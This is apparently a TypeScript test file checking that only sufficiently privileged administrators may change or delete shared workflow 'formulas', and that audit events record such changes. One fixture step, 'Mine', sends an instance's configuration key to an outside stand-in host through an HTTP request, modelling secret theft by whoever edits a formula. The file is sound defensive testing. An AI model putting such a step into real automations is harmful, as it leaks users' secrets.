import { expect, test } from "vitest";
import { expectRefused } from "@/db/test/expect-refusal";
import { createTestBed } from "@/db/test/test-bed";
import { createFormula } from "./create-formula";
import { createFormulaInstance } from "./create-formula-instance";
import { deleteFormula } from "./delete-formula";
import { updateFormula } from "./update-formula";

// Steps run as the owner of each instance, with that instance's configuration: whoever writes them could send it anywhere.

const steps = [
  { name: "Mine", type: "httpRequest", properties: { url: "https://example.com/?key={config.key}" } },
];
const triggers = [{ type: "scheduled", properties: { cron: "0 7 * * *" } }];

/** A formula of the default account; its Account Administrators may edit it, and everybody may use it. */
async function arrange() {
  const bed = await createTestBed();
  const organization = await bed.ctxOf(await bed.administrator());
  const manager = await bed.ctxOf(await bed.accountAdministrator(bed.defaultAccount));
  const { formulaId } = await createFormula.execute(organization, { name: "Copy" });
  const use = async (user: Parameters<typeof bed.ctxOf>[0], active = true) =>
    createFormulaInstance.execute(await bed.ctxOf(user), {
      ...{ formulaId, name: "Daily", active },
      configuration: { key: "canary" },
    });
  return { bed, organization, manager, formulaId, use };
}

type Arranged = Awaited<ReturnType<typeof arrange>>;

const touching = (ctx: Arranged["manager"], formulaId: number) => [
  () => updateFormula.execute(ctx, { formulaId, steps }),
  () => updateFormula.execute(ctx, { formulaId, triggers }),
  () => deleteFormula.execute(ctx, { formulaId }),
];

const refusedAll = async ({ bed, manager, formulaId }: Arranged) => {
  for (const attempt of touching(manager, formulaId)) {
    const refusal = await expectRefused(bed, attempt, "forbidden");
    expect(refusal.message).toBe(
      "This formula is used by users that you may not change. An Organization Administrator can.",
    );
  }
  // What it is called reaches nobody's configuration.
  await updateFormula.execute(manager, { formulaId, name: "Copy all" });
};

test.each([true, false])(
  "rule 2: nobody changes what runs, or is removed, in an account that they cannot reach (active: %s)",
  async (active) => {
    const arranged = await arrange();
    const { bed, use } = arranged;
    await use(await bed.user({ account: await bed.account() }), active);
    await refusedAll(arranged);
  },
);

test("rule 4: nobody changes what runs as somebody who holds more", async () => {
  const arranged = await arrange();
  await arranged.use(await arranged.bed.administrator());
  await refusedAll(arranged);
});

test("whoever may edit all of its users may change and delete a formula, and so may its only user", async () => {
  const { bed, manager, formulaId, use } = await arrange();
  await use(await bed.user());
  const own = { formulaId, name: "Own", configuration: { key: "mine" } };
  await createFormulaInstance.execute(manager, own);
  for (const attempt of touching(manager, formulaId)) await attempt();
  expect((await bed.auditEvents()).filter(({ action }) => action === "formula.delete")).toMatchObject([
    { outcome: "done", receipt: { instances: 2 } },
  ]);
});

test("an Organization Administrator reaches all of them, and each account that uses it reads of it", async () => {
  const { bed, organization, formulaId, use } = await arrange();
  const [near, far] = [await bed.account(), await bed.account()];
  for (const account of [near, near, far]) await use(await bed.user({ account }));
  await use(await bed.user());
  for (const attempt of touching(organization, formulaId)) await attempt();
  const events = (await bed.auditEvents()).filter(({ action }) => /^formula\.(update|delete)$/.test(action));
  const of = (accountId: number) => events.filter((event) => event.accountId === accountId);
  for (const [{ id }, instances] of [
    [near, 2],
    [far, 1],
  ] as const) {
    expect(of(id)).toMatchObject([
      { action: "formula.update", changes: { steps: [[], ["Mine"]] }, receipt: { instances } },
      { action: "formula.update", changes: { triggers: [[], ["scheduled"]] }, receipt: { instances } },
      { action: "formula.delete", changes: { name: ["Copy", null] }, receipt: { instances } },
    ]);
  }
  expect(events).toHaveLength(9);
});
